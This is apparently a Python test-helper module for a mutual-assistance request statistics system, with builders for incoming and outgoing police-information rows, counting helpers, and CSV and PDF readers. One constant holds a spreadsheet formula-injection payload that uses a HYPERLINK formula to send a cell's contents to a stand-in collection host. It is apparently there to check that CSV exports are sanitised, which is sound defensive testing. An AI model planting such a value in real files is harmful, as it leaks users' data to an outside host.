"""Rows of figures as the tests tell them: a request, what happened to it, and how many days after it came."""

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pypdfium2

from entraide.assistance.domain.figures.counting import Figures, count
from entraide.assistance.domain.figures.period import Period
from entraide.assistance.domain.figures.rows import Row
from entraide.assistance.domain.kinds import Direction, Kind, Track, Urgency
from entraide.assistance.domain.states import State
from entraide.instruments.domain.clocks.rules import Event
from entraide.kernel.languages import Text

MONTREAL = ZoneInfo("America/Toronto")
YEAR = Period(date(2026, 1, 1), date(2026, 12, 31), MONTREAL)
NOW = datetime(2027, 2, 1, 12, tzinfo=UTC)
MARCH = datetime(2026, 3, 2, 14, 30, tzinfo=UTC)
NAMES = {"FR": Text(en="France", fr="France"), "DE": Text(en="Germany", fr="Allemagne")}
HOSTILE = '=HYPERLINK("http://collect.example/"&A1,"Fraud")'
DAY = timedelta(days=1)


def incoming(*happened: tuple[str, float], received: datetime = MARCH, **more: object) -> Row:
    """An incoming routine request for police information; what happened is told by code and days since."""
    events = [Event("received", received), *(Event(code, received + days * DAY) for code, days in happened)]
    plain = Row(
        Direction.INCOMING,
        State.CLOSED,
        Kind.POLICE_INFORMATION,
        Track.POLICE,
        Urgency.ROUTINE,
        partner="FR",
        received_at=received,
        events=tuple(events),
    )
    return replace(plain, **more)  # type: ignore[arg-type]


def outgoing(*happened: tuple[str, float], **more: object) -> Row:
    row = incoming(direction=Direction.OUTGOING, received_at=None)
    events = tuple(Event(code, MARCH + days * DAY) for code, days in happened)
    return replace(row, events=events, **more)  # type: ignore[arg-type]


def counted(*rows: Row, period: Period = YEAR, at: datetime = NOW) -> Figures:
    return count(rows, period, at=at, states=NAMES)


def told(figures: Figures) -> dict[str, int]:
    """The counts of the total that are not nought."""
    return {column.value: number for column, number in figures.total.counts.items() if number}


def rows_of(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def text_of(pdf: bytes) -> str:
    with pypdfium2.PdfDocument(pdf) as document:
        pages = [page.get_textpage().get_text_range() for page in document]
    return re.sub(r"\s+", " ", " ".join(pages))
